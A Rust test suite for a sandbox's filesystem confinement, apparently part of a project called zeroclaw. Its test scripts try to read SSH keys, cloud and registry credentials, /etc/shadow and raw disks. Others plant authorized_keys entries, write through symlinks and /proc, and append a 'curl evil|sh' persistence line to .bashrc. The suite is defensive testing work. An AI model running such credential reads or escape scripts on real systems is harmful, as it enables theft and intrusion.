//! Escape suite, filesystem classes of `SECURITY.md`: reading outside the allowed roots and
//! writing outside the workspace. Protected paths inside it: `sandbox_escape_protected.rs`.
//!
//! Every attack runs on every Linux backend (`per_backend!`), confined first and judged from outside
//! (the canary never appears, the file is unchanged), then unconfined as its positive control.

use crate::sandbox_support;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use sandbox_support::judge::{
    Confine, confined, control, defaults, no_secret, not_escaped, unchanged, with_ro,
};
use sandbox_support::procs::Reaper;
use sandbox_support::py::{self, py};
use sandbox_support::world::{Snapshot, q, unique};
use sandbox_support::{Backend, World};

// ---- Read outside the allowed roots -------------------------------------------------------

fn cat_home(w: &World, b: Backend, files: &[&str]) {
    let paths: Vec<String> = files.iter().map(|f| q(&w.home.join(f))).collect();
    no_secret(w, b, defaults, &format!("cat {}", paths.join(" ")));
}

fn read_ssh_keys(w: &World, b: Backend) {
    cat_home(w, b, &[".ssh/id_ed25519", ".ssh/id_rsa"]);
}
per_backend!(read_ssh_keys);

fn read_aws_credentials(w: &World, b: Backend) {
    cat_home(w, b, &[".aws/credentials"]);
}
per_backend!(read_aws_credentials);

fn read_netrc(w: &World, b: Backend) {
    cat_home(w, b, &[".netrc"]);
}
per_backend!(read_netrc);

fn read_git_credentials(w: &World, b: Backend) {
    cat_home(w, b, &[".git-credentials"]);
}
per_backend!(read_git_credentials);

fn read_cargo_credentials(w: &World, b: Backend) {
    cat_home(w, b, &[".cargo/credentials.toml"]);
}
per_backend!(read_cargo_credentials);

fn read_config_dir(w: &World, b: Backend) {
    cat_home(
        w,
        b,
        &[".config/gh/hosts.yml", ".gnupg/private-keys-v1.d/key.key"],
    );
}
per_backend!(read_config_dir);

/// The home toolchain dirs (`~/.cargo/bin`, `~/.rustup`) are exposed, their credential-holding
/// neighbours are not: the toolchain file is read (so `$HOME` was honoured and the reads reach
/// the kernel), the credentials are not.
fn read_credentials_beside_toolchains(w: &World, b: Backend) {
    w.write(&w.home.join(".cargo/bin/cargo-tool"), "toolchain-visible\n");
    w.write(
        &w.home.join(".rustup/settings.toml"),
        "toolchain-settings-visible\n",
    );
    let files = [
        ".cargo/bin/cargo-tool",
        ".rustup/settings.toml",
        ".cargo/credentials.toml",
        ".netrc",
        ".git-credentials",
    ];
    let paths: Vec<String> = files.iter().map(|f| q(&w.home.join(f))).collect();
    let script = format!("cat {}", paths.join(" "));
    let run = confined(w, b, defaults, &script);
    w.assert_no_canary(&run);
    assert!(
        run.stdout.contains("toolchain-visible")
            && run.stdout.contains("toolchain-settings-visible"),
        "the home toolchains must stay readable\n{run}"
    );
    w.assert_canary(&control(w, &script));
}
per_backend!(read_credentials_beside_toolchains);

/// Every file of the fake home, found by walking it rather than by name.
fn read_other_dotfiles(w: &World, b: Backend) {
    no_secret(
        w,
        b,
        defaults,
        &format!("find {} -type f -exec cat {{}} +", q(&w.home)),
    );
}
per_backend!(read_other_dotfiles);

fn read_other_workspace(w: &World, b: Backend) {
    no_secret(
        w,
        b,
        defaults,
        &format!("cat {}/*; cat ../other-ws/notes.txt", q(&w.other_ws)),
    );
}
per_backend!(read_other_workspace);

/// Another session's sandbox running beside ours: its workspace must not be reachable through
/// its processes (`/proc/<pid>/cwd`, `/proc/<pid>/root`).
fn read_other_session_through_proc(w: &World, b: Backend) {
    let marker = unique("zcmark");
    let _reaper = Reaper(marker.clone());
    let other = w.confined(b).workspace(&w.other_ws);
    let mut session = other.spawn_sh(&format!(
        "echo started; while :; do sleep 0.1; done # {marker}"
    ));
    assert!(
        session.read_line().contains("started"),
        "the other session never started"
    );
    let notes = w.other_ws.join("notes.txt");
    let script = format!(
        "for p in /proc/[0-9]*; do cat $p/cwd/notes.txt $p/root{} 2>/dev/null; done; true",
        notes.display()
    );
    no_secret(w, b, defaults, &script);
}
per_backend!(read_other_session_through_proc);

/// The daemon's config dir and session database (`~/.zeroclaw`).
fn read_daemon_config_dir(w: &World, b: Backend) {
    let dir = w.home.join(".zeroclaw");
    no_secret(
        w,
        b,
        defaults,
        &format!("cat {0}/config.toml {0}/sessions.db", q(&dir)),
    );
}
per_backend!(read_daemon_config_dir);

/// `$HOME` allowed for reading: its secrets stay denied (`~/.ssh`, `~/.aws`, credentials).
fn read_secrets_under_allowed_home(w: &World, b: Backend) {
    let files = [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".netrc",
        ".git-credentials",
        ".cargo/credentials.toml",
        ".config/gh/hosts.yml",
    ];
    let paths: Vec<String> = files.iter().map(|f| q(&w.home.join(f))).collect();
    no_secret(
        w,
        b,
        |s, w| s.allow_read(&w.home),
        &format!("cat {}", paths.join(" ")),
    );
}
per_backend!(read_secrets_under_allowed_home);

/// Token files of common tools ("secrets ... and the like"): still denied when `$HOME` is
/// allowed for reading — registry publish tokens, database passwords, cluster credentials.
fn read_token_files_under_allowed_home(w: &World, b: Backend) {
    let files = [
        ".npmrc",
        ".pypirc",
        ".pgpass",
        ".vault-token",
        ".docker/config.json",
        ".kube/config",
        ".terraform.d/credentials.tfrc.json",
        ".gradle/gradle.properties",
        ".m2/settings.xml",
        ".password-store/bank.gpg",
        ".local/share/keyrings/login.keyring",
    ];
    for file in files {
        w.write(&w.home.join(file), &w.secret(file));
    }
    let paths: Vec<String> = files.iter().map(|f| q(&w.home.join(f))).collect();
    let script = format!("for f in {}; do cat \"$f\"; echo; done", paths.join(" "));
    let run = confined(w, b, |s, w| s.allow_read(&w.home), &script);
    let leaked: Vec<&str> = files
        .iter()
        .copied()
        .filter(|f| run.stdout.contains(&w.secret(f)))
        .collect();
    assert!(
        leaked.is_empty(),
        "ESCAPE: token files read under an allowed $HOME: {leaked:?}\n{run}"
    );
    w.assert_canary(&control(w, &script));
}
per_backend!(read_token_files_under_allowed_home);

/// A writable root holding a denied directory (`~/.ssh` stays denied whoever allows `$HOME`):
/// the key inside can be neither read nor listed, and nothing can be planted next to it, while
/// the rest of the root stays writable (so the attack reached a root the child could use).
fn denied_dir_inside_writable_root(w: &World, b: Backend, confine: Confine) {
    let ssh = w.home.join(".ssh");
    let planted = ssh.join("authorized_keys");
    let allowed = w.home.join("projects/ok.txt");
    fs::create_dir_all(w.home.join("projects")).expect("mkdir");
    let script = format!(
        "cat {0}/id_ed25519 {0}/id_rsa; ls -a {0}; echo ssh-ed25519 AAAA >> {1}; echo ok > {2}",
        q(&ssh),
        q(&planted),
        q(&allowed)
    );
    let run = confined(w, b, confine, &script);
    w.assert_no_canary(&run);
    assert!(
        Snapshot::of(&planted).is_none(),
        "ESCAPE: a file was planted in the denied {}\n{run}",
        ssh.display()
    );
    assert!(
        fs::read_to_string(&allowed).is_ok_and(|t| t == "ok\n"),
        "the writable root must stay writable beside the denied directory\n{run}"
    );
    let control = control(w, &script);
    w.assert_canary(&control);
    assert!(
        Snapshot::of(&planted).is_some(),
        "positive control failed: nothing planted\n{control}"
    );
}

fn denied_dir_inside_allowed_write_root(w: &World, b: Backend) {
    denied_dir_inside_writable_root(w, b, |s, w| s.allow_write(&w.home));
}
per_backend!(denied_dir_inside_allowed_write_root);

fn denied_dir_inside_workspace(w: &World, b: Backend) {
    denied_dir_inside_writable_root(w, b, |s, w| s.workspace(&w.home));
}
per_backend!(denied_dir_inside_workspace);

/// A writable root holding a denied directory that does not exist yet (`~/.ssh` before the
/// user ever ran ssh-keygen): the child can neither create it nor plant a key in it — also not
/// through an inherited descriptor, nor by moving a parent away (`~/.cargo` for the denied
/// `~/.cargo/credentials.toml`) and recreating the path — while the rest of the root stays
/// writable, and nothing is left on the host afterwards.
fn missing_denied_dir_inside_writable_root(w: &World, b: Backend, confine: Confine) {
    let ssh = w.home.join(".ssh");
    let planted = ssh.join("authorized_keys");
    let cargo = w.home.join(".cargo");
    let credentials = cargo.join("credentials.toml");
    let allowed = w.home.join("projects/ok.txt");
    fs::remove_dir_all(&ssh).expect("rm -r .ssh");
    fs::remove_dir_all(&cargo).expect("rm -r .cargo");
    fs::create_dir_all(w.home.join("projects")).expect("mkdir");
    let script = format!(
        "mkdir {0}; mkdir -p {0}; echo ssh-ed25519 AAAA >> {1}; \
         for f in /proc/self/fd/*; do echo ssh-ed25519 AAAA >> \"$f/authorized_keys\"; done; \
         mkdir -p {2}; echo t > {2}/x; mv {3} {3}.moved; mkdir -p {3}; echo t > {2}; \
         echo ok > {4}",
        q(&ssh),
        q(&planted),
        q(&credentials),
        q(&cargo),
        q(&allowed)
    );
    let run = confined(w, b, confine, &script);
    let moved = w.home.join(".cargo.moved");
    for path in [&ssh, &cargo, &moved] {
        assert!(
            Snapshot::of(path).is_none(),
            "ESCAPE (or a placeholder left behind): {} exists on the host\n{run}",
            path.display()
        );
    }
    assert!(
        fs::read_to_string(&allowed).is_ok_and(|t| t == "ok\n"),
        "the writable root must stay writable beside the denied directory\n{run}"
    );
    let control = control(w, &script);
    assert!(
        Snapshot::of(&planted).is_some() && Snapshot::of(&credentials).is_some(),
        "positive control failed: nothing planted\n{control}"
    );
}

fn missing_denied_dir_inside_allowed_write_root(w: &World, b: Backend) {
    missing_denied_dir_inside_writable_root(w, b, |s, w| s.allow_write(&w.home));
}
per_backend!(missing_denied_dir_inside_allowed_write_root);

fn missing_denied_dir_inside_workspace(w: &World, b: Backend) {
    missing_denied_dir_inside_writable_root(w, b, |s, w| s.workspace(&w.home));
}
per_backend!(missing_denied_dir_inside_workspace);

/// A symlink planted in the workspace that points at a secret.
fn read_through_planted_symlink(w: &World, b: Backend) {
    symlink(w.home.join(".ssh/id_ed25519"), w.ws.join("key-link")).expect("symlink");
    symlink(w.home.join(".aws"), w.ws.join("aws-link")).expect("symlink");
    no_secret(w, b, defaults, "cat key-link aws-link/credentials");
}
per_backend!(read_through_planted_symlink);

/// `/etc` is readable, `/etc/shadow` is not (root must be confined too).
fn read_etc_shadow(w: &World, b: Backend) {
    let shadow = fs::read_to_string("/etc/shadow").expect("read /etc/shadow as root");
    let first = shadow.lines().next().expect("a shadow line").to_owned();
    let script = "cat /etc/shadow /etc/gshadow";
    let run = confined(w, b, defaults, script);
    // Failure messages give the status and stderr only: never print password hashes.
    assert!(
        !run.shows(&first),
        "ESCAPE: /etc/shadow was read (exit {:?}, stderr {:?})",
        run.status_code(),
        run.stderr
    );
    let control = control(w, script);
    assert!(
        control.shows(&first),
        "positive control failed (exit {:?}, stderr {:?})",
        control.status_code(),
        control.stderr
    );
}
per_backend!(read_etc_shadow);

/// The raw disk under `/` (root owns the device node; no capability is needed to read it).
fn read_block_device(w: &World, b: Backend) {
    let Some(device) = root_block_device() else {
        eprintln!("SKIP read_block_device: / is not mounted from a /dev block device here");
        return;
    };
    let script =
        format!("head -c 65536 {device} | od -An | grep -q . && echo ZC_ESCAPED raw disk read");
    if !control(w, &script).stdout.contains("ZC_ESCAPED") {
        eprintln!("SKIP read_block_device: even the test cannot read {device} on this machine");
        return;
    }
    not_escaped(w, b, defaults, &script);
}
per_backend!(read_block_device);

fn root_block_device() -> Option<String> {
    let mounts = fs::read_to_string("/proc/self/mounts").ok()?;
    mounts
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>())
        .find(|f| f.len() > 1 && f[1] == "/" && f[0].starts_with("/dev/"))
        .map(|f| f[0].to_owned())
}

/// "Shocker": a file handle for a secret, made outside, opened inside by `open_by_handle_at`.
fn read_by_file_handle(w: &World, b: Backend) {
    let key = w.home.join(".ssh/id_ed25519");
    let get = control(w, &py(&py::file_handle(), &["get".into(), q(&key)]));
    let handle = get
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("HANDLE "))
        .unwrap_or_else(|| panic!("no handle for {}\n{get}", key.display()))
        .to_owned();
    no_secret(
        w,
        b,
        defaults,
        &py(&py::file_handle(), &["open".into(), handle]),
    );
}
per_backend!(read_by_file_handle);

/// Every file under `/etc` that is not world-readable is a secret meant for root alone (TLS
/// keys, database auth, password hashes): none may be read, whichever are on this machine.
/// A failure names the leaked files, never their content.
fn read_root_only_etc_files(w: &World, b: Backend) {
    let secrets: Vec<(std::path::PathBuf, String)> = root_only_files(Path::new("/etc"))
        .into_iter()
        .filter_map(|f| fs::read_to_string(&f).ok().map(|text| (f, text)))
        .flat_map(|(f, text)| {
            let lines: Vec<String> = text.lines().map(|l| l.trim().to_owned()).collect();
            lines
                .into_iter()
                .filter(|l| l.len() >= 20 && !l.starts_with('#'))
                .map(move |l| (f.clone(), l))
        })
        .collect();
    assert!(
        !secrets.is_empty(),
        "no root-only text under /etc (at least /etc/shadow expected)"
    );
    let leaked_from = |out: &str| {
        let mut files: Vec<String> = secrets
            .iter()
            .filter(|(_, l)| out.contains(l.as_str()))
            .map(|(f, _)| f.display().to_string())
            .collect();
        files.dedup();
        files
    };
    // Each file by its path, so a backend that hides /etc's listing but not the files
    // themselves is still caught (a `find /etc` that fails at the top proves nothing).
    let mut files: Vec<&std::path::PathBuf> = secrets.iter().map(|(f, _)| f).collect();
    files.dedup();
    let quoted: Vec<String> = files.iter().map(|f| q(f)).collect();
    let script = &format!(
        "for f in {}; do cat \"$f\"; done 2>/dev/null; find /etc -type f ! -perm -o=r -exec cat {{}} + 2>/dev/null",
        quoted.join(" ")
    );
    let run = confined(w, b, defaults, script);
    let leaked = leaked_from(&run.stdout);
    assert!(
        leaked.is_empty(),
        "ESCAPE: root-only files were read inside: {leaked:?} (exit {:?})",
        run.status_code()
    );
    let control = control(w, script);
    assert!(
        !leaked_from(&control.stdout).is_empty(),
        "positive control failed (exit {:?})",
        control.status_code()
    );
}
per_backend!(read_root_only_etc_files);

/// Regular files under `dir` that others may not read.
fn root_only_files(dir: &Path) -> Vec<std::path::PathBuf> {
    use std::os::unix::fs::PermissionsExt;
    let Ok(entries) = fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut found = Vec::new();
    for entry in entries.flatten() {
        let Ok(meta) = fs::symlink_metadata(entry.path()) else {
            continue;
        };
        if meta.is_dir() {
            found.extend(root_only_files(&entry.path()));
        } else if meta.is_file() && meta.permissions().mode() & 0o004 == 0 {
            found.push(entry.path());
        }
    }
    found
}

// ---- Write outside the workspace ----------------------------------------------------------

fn write_absolute_path(w: &World, b: Backend) {
    let target = w.outside.join("target.txt");
    let new = w.outside.join("new.txt");
    let script = format!("echo pwned > {}; echo pwned > {}", q(&target), q(&new));
    unchanged(w, b, defaults, &[&target, &new], &script);
}
per_backend!(write_absolute_path);

fn write_dotdot_traversal(w: &World, b: Backend) {
    let target = w.outside.join("target.txt");
    let new = w.root.join("escaped.txt");
    unchanged(
        w,
        b,
        defaults,
        &[&target, &new],
        "echo pwned > ../outside/target.txt; echo pwned > ../escaped.txt",
    );
}
per_backend!(write_dotdot_traversal);

/// `--allow-read` makes a root visible, never writable.
fn write_read_only_root(w: &World, b: Backend) {
    let target = w.ro.join("ro.txt");
    let new = w.ro.join("new.txt");
    let script = format!("echo pwned >> {}; echo pwned > {}", q(&target), q(&new));
    unchanged(w, b, with_ro, &[&target, &new], &script);
}
per_backend!(write_read_only_root);

/// A symlink the test planted in the workspace, pointing at an outside file.
fn write_through_planted_symlink(w: &World, b: Backend) {
    let target = w.outside.join("target.txt");
    symlink(&target, w.ws.join("link")).expect("symlink");
    unchanged(w, b, defaults, &[&target], "echo pwned > link");
}
per_backend!(write_through_planted_symlink);

/// A symlink the child creates itself, to a file it can see read-only.
fn write_through_own_symlink(w: &World, b: Backend) {
    let target = w.ro.join("ro.txt");
    let script = format!("ln -s {} mylink; echo pwned > mylink", q(&target));
    unchanged(w, b, with_ro, &[&target], &script);
}
per_backend!(write_through_own_symlink);

fn write_through_directory_symlink(w: &World, b: Backend) {
    symlink(w.outside.join("dir"), w.ws.join("dlink")).expect("symlink");
    let new = w.outside.join("dir/new.txt");
    unchanged(w, b, defaults, &[&new], "echo pwned > dlink/new.txt");
}
per_backend!(write_through_directory_symlink);

/// A hard link from the workspace to a read-only file, then a write through it.
fn write_through_hard_link(w: &World, b: Backend) {
    let target = w.ro.join("ro.txt");
    let script = format!("ln {} hl && echo pwned >> hl", q(&target));
    unchanged(w, b, with_ro, &[&target], &script);
}
per_backend!(write_through_hard_link);

fn truncate_outside_file(w: &World, b: Backend) {
    let target = w.ro.join("ro.txt");
    let script = format!(": > {0}; truncate -s 0 {0}", q(&target));
    unchanged(w, b, with_ro, &[&target], &script);
}
per_backend!(truncate_outside_file);

/// `chmod` of a file outside any root, and of one in a read-only root.
fn chmod_outside_file(w: &World, b: Backend) {
    let hidden = w.outside.join("target.txt");
    let visible = w.ro.join("ro.txt");
    let script = format!(
        "chmod 0666 {0} {1}; chmod 4755 {0} {1}",
        q(&hidden),
        q(&visible)
    );
    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
}
per_backend!(chmod_outside_file);

/// `fchmod` and `futimens` through a descriptor opened read-only, as on `/etc/passwd` when
/// the confined uid is root: a file in a read-only root, which the confined uid owns, keeps
/// its mode and times (the unconfined control changes both).
fn fchmod_through_readonly_fd(w: &World, b: Backend) {
    let visible = w.ro.join("ro.txt");
    let src = r#"
import os, sys
for p in sys.argv[1:]:
    for what in ("fchmod", "futimens"):
        try:
            fd = os.open(p, os.O_RDONLY)
        except OSError as e:
            print("open", p, e, flush=True)
            break
        try:
            if what == "fchmod":
                os.fchmod(fd, 0o666)
            else:
                os.utime(fd, (1000000000, 1000000000))
            print("ZC_ESCAPED", what, p, flush=True)
        except OSError as e:
            print(what, p, e, flush=True)
        finally:
            os.close(fd)
"#;
    let script = py(src, &[q(&visible)]);
    unchanged(w, b, with_ro, &[&visible], &script);
    let run = confined(w, b, with_ro, &script);
    assert!(!run.stdout.contains("ZC_ESCAPED"), "{run}");
}
per_backend!(fchmod_through_readonly_fd);

fn chown_outside_file(w: &World, b: Backend) {
    let hidden = w.outside.join("target.txt");
    let visible = w.ro.join("ro.txt");
    let script = format!("chown 1234:1234 {} {}", q(&hidden), q(&visible));
    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
}
per_backend!(chown_outside_file);

/// Changing timestamps (`utimensat`) of files outside: an owner may, a confined child not.
fn touch_outside_file(w: &World, b: Backend) {
    let hidden = w.outside.join("target.txt");
    let visible = w.ro.join("ro.txt");
    let script = format!("touch -d 2001-02-03 {} {}", q(&hidden), q(&visible));
    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
}
per_backend!(touch_outside_file);

/// `mv` of an outside file: renamed in place, or pulled into the workspace.
fn mv_outside_file(w: &World, b: Backend) {
    let hidden = w.outside.join("target.txt");
    let visible = w.ro.join("ro.txt");
    let script = format!(
        "mv {} {}/moved.txt; mv {} .",
        q(&hidden),
        q(&w.outside),
        q(&visible)
    );
    unchanged(w, b, with_ro, &[&hidden, &visible], &script);
}
per_backend!(mv_outside_file);

/// Persistence through a dotfile in the real home of the launcher.
fn write_home_dotfile(w: &World, b: Backend) {
    let bashrc = w.home.join(".bashrc");
    let ssh = w.home.join(".ssh/authorized_keys");
    let script = format!(
        "echo 'curl evil|sh' >> {}; echo ssh-ed25519 AAAA >> {}",
        q(&bashrc),
        q(&ssh)
    );
    unchanged(w, b, defaults, &[&bashrc, &ssh], &script);
}
per_backend!(write_home_dotfile);

/// System directories are read-only roots: nothing may be created there.
fn write_system_dirs(w: &World, b: Backend) {
    let name = format!("zc-escape-{}", w.canary);
    let etc = Path::new("/etc").join(&name);
    let usr = Path::new("/usr/local/bin").join(&name);
    let _cleanup = Remove(vec![etc.clone(), usr.clone()]);
    let script = format!("echo pwned > {}; echo pwned > {}", q(&etc), q(&usr));
    unchanged(w, b, defaults, &[&etc, &usr], &script);
}
per_backend!(write_system_dirs);

/// The host's world-writable directories (`/tmp`, `/var/tmp`, `/dev/shm`, `/run/lock`): a file
/// written there inside must not appear there outside (a private `/tmp` is fine).
fn write_shared_tmp_dirs(w: &World, b: Backend) {
    let name = format!("zc-escape-{}", w.canary);
    let dirs = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock"];
    let targets: Vec<_> = dirs
        .iter()
        .map(|d| Path::new(d).join(&name))
        .filter(|p| p.parent().is_some_and(Path::is_dir))
        .collect();
    let _cleanup = Remove(targets.clone());
    let script: Vec<String> = targets
        .iter()
        .map(|t| format!("echo pwned > {}", q(t)))
        .collect();
    let watched: Vec<&Path> = targets.iter().map(|t| t.as_path()).collect();
    unchanged(w, b, defaults, &watched, &script.join("; "));
}
per_backend!(write_shared_tmp_dirs);

/// Removes the listed files on drop (what a positive control created on the host).
struct Remove(Vec<std::path::PathBuf>);

impl Drop for Remove {
    fn drop(&mut self) {
        for path in &self.0 {
            let _ = fs::remove_file(path);
        }
    }
}
